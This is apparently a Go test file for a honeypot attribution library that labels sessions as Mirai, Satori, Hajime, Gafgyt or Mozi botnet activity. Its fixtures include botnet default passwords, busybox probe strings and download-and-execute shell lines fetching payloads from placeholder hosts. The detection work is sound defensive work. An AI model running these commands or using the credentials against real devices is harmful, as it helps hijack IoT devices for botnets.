package attrib

import (
	"strings"
	"testing"
)

func TestDefaultRulesParse(t *testing.T) {
	r := Default()
	if r.Len() < 10 {
		t.Fatalf("default rules: %d rules", r.Len())
	}
}

func TestParseErrors(t *testing.T) {
	cases := map[string]string{
		"no evidence":    "rules:\n- {id: a, family: x, weight: 1, reason: r}\n",
		"two evidences":  "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [1], input: 'a'}\n",
		"bad regex":      "rules:\n- {id: a, family: x, weight: 1, reason: r, input: '('}\n",
		"bad port":       "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [70000]}\n",
		"bad cred":       "rules:\n- {id: a, family: x, weight: 1, reason: r, credentials: [nocolon]}\n",
		"unknown field":  "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [1], colour: red}\n",
		"dup id":         "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [1]}\n- {id: a, family: x, weight: 1, reason: r, ports: [2]}\n",
		"unknown family": "rules:\n- {id: a, family: unknown, weight: 1, reason: r, ports: [1]}\n",
	}
	for name, doc := range cases {
		if _, err := Parse([]byte(doc)); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

func observeAll(tr *Tracker, obs ...Observation) {
	for _, o := range obs {
		tr.Observe(o)
	}
}

func TestMiraiLoader(t *testing.T) {
	tr := Default().NewTracker()
	if tr.Family() != Unknown {
		t.Fatal("new tracker not unknown")
	}
	observeAll(tr,
		Observation{Port: 23},
		Observation{Login: true, Username: "root", Password: "xc3511"},
	)
	if tr.Family() != "mirai" {
		t.Fatalf("after Mirai credential: %s", tr.Family())
	}
	observeAll(tr,
		Observation{Input: "/bin/busybox ECCHI"},
		Observation{Input: `/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon`},
		Observation{URL: "http://203.0.113.9:80/bins/mirai.arm7"},
	)
	if tr.Family() != "mirai" || len(tr.Reasons()) != 6 {
		t.Fatalf("family %s reasons %q", tr.Family(), tr.Reasons())
	}
	if !strings.Contains(strings.Join(tr.Reasons(), "\n"), "mirai-binary-url") {
		t.Errorf("reasons miss the URL rule: %q", tr.Reasons())
	}
}

func TestSatoriOverridesMiraiCredential(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Login: true, Username: "root", Password: "vizxv"},
		Observation{Input: "/bin/busybox SATORI"},
	)
	if tr.Family() != "satori" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

func TestHajime(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Port: 5358},
		Observation{Login: true, Username: "admin", Password: "admin"},
		Observation{Input: "/bin/busybox ECCHI"},
		Observation{Input: `echo -ne "\x7f\x45\x4c\x46\x01\x01\x01" > .s`},
		Observation{Input: "./.s>.i; chmod +x .i; ./.i; exit"},
	)
	if tr.Family() != "hajime" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

func TestObserveReportsChangesOnly(t *testing.T) {
	tr := Default().NewTracker()
	if tr.Observe(Observation{Input: "ls"}) {
		t.Error("ls changed the family")
	}
	if !tr.Observe(Observation{Input: "/bin/busybox MIRAI"}) {
		t.Error("MIRAI check did not change the family")
	}
	if tr.Observe(Observation{Input: "/bin/busybox MIRAI"}) {
		t.Error("the same rule counted twice")
	}
}

func TestGafgyt(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Login: true, Username: "root", Password: "root"},
		Observation{Input: `/bin/busybox;echo -e '\147\141\171\146\147\164'`},
		Observation{Input: "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh"},
	)
	if tr.Family() != "gafgyt" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

func TestMozi(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Login: true, Username: "admin", Password: "admin"},
		Observation{Input: "/bin/busybox wget http://192.0.2.11:44411/Mozi.m -O /tmp/netgear; sh /tmp/netgear"},
		Observation{URL: "http://192.0.2.11:44411/Mozi.m"},
	)
	if tr.Family() != "mozi" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

// A session that only logs in with a credential outside every table and
// runs ordinary commands stays unknown.
func TestUnknownStaysUnknown(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Port: 23},
		Observation{Login: true, Username: "operator", Password: "s3cret"},
		Observation{Input: "uname -a; cat /proc/cpuinfo"},
		Observation{URL: "http://192.0.2.12/update.sh"},
	)
	if tr.Family() != Unknown || tr.Reasons() != nil {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}
